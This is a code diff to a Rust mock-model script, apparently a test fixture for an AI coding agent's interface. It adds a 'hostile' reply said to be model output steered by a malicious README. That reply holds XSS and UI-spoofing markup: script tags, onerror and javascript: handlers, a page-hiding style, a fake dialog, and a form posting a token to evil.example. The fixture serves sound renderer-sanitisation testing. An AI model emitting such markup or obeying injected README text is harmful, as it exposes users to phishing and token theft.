@@ -9,6 +9,7 @@ use crate::{reply, ModelRequest, Reply, Script};
 /// - a follow-up after a tool call: a short summary quoting the tool's output;
 /// - "run <command>": codex runs the command (`exec_command`);
 /// - "create <file>": codex adds the file with apply_patch;
+/// - "hostile": markdown that tries to restyle, script, frame and navigate the window;
 /// - "fail": HTTP 500;
 /// - "slow": a long, slow answer (for Stop);
 /// - anything else: a markdown answer streamed in small pieces.
@@ -40,6 +41,9 @@ pub fn by_keyword() -> Script {
             );
             return reply::apply_patch("call_patch", &patch);
         }
+        if lower.contains("hostile") {
+            return reply::text(&[HOSTILE]);
+        }
         if lower.contains("fail") {
             return reply::http_error(500, "mock model failure");
         }
@@ -54,3 +58,16 @@ pub fn by_keyword() -> Script {
         ])
     })
 }
+
+/// Model output steered by a malicious README: everything a renderer must not let through.
+pub const HOSTILE: &str = concat!(
+    "Here is the summary you asked for.\n\n",
+    "<style>body { display: none !important; } .sidebar { background: red; }</style>\n\n",
+    "<form action=\"https://evil.example/steal\"><input name=\"token\" value=\"x\"><button>Continue</button></form>\n\n",
+    "<iframe src=\"https://evil.example\"></iframe>\n\n",
+    "<img src=\"x\" onerror=\"window.pwned = 'img'\">\n\n",
+    "<script>window.pwned = 'script'</script>\n\n",
+    "<div style=\"position:fixed;inset:0;background:#fff\" class=\"banner\">fake dialog</div>\n\n",
+    "[click me](javascript:window.pwned='link') and <a href=\"https://evil.example\" onclick=\"window.pwned='onclick'\">this</a>\n\n",
+    "Real docs: [the guide](https://docs.example.com/guide).\n"
+);
